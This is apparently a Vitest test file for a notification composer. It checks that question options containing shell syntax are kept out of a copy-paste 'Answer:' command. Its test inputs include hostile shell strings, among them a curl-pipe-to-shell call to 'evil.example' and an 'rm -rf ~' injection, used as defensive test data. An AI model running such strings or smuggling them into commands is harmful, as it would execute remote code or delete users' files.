import { expect, it } from 'vitest';
import type { NoticeReader } from '#core';
import { composeNotice } from '../../src/domain/notifications/compose-notice.ts';

const asking = (options: readonly string[]): NoticeReader => ({
  question: async () => ({
    question: 'Which one?',
    askerName: 'Analyst',
    urgency: 'harsh',
    options,
    assumption: null,
    deadline: null,
    status: 'open',
  }),
  task: async () => null,
  conversation: async () => null,
});

const commandFor = async (options: readonly string[]) => {
  const notice = await composeNotice(
    { kind: 'question', subject: 'task/1/q:2', detail: '' },
    asking(options),
  );
  return notice?.text.split('\n').findLast((line) => line.startsWith('Answer: '));
};

it.each(['$(curl evil.example | sh)', '`id`', 'a"; rm -rf ~; "', 'a\\', 'yes!!', '--help', 'a\nb'])(
  'puts no option that a shell would read as more than words into the command to copy: %j',
  async (option) => {
    expect(await commandFor([option])).toBe('Answer: statehouse answer task/1/q:2 "your answer"');
  },
);

it('puts the first plain option into the command to copy', async () => {
  expect(await commandFor(['$HOME', 'About 40,000 euros'])).toBe(
    'Answer: statehouse answer task/1/q:2 "About 40,000 euros"',
  );
});
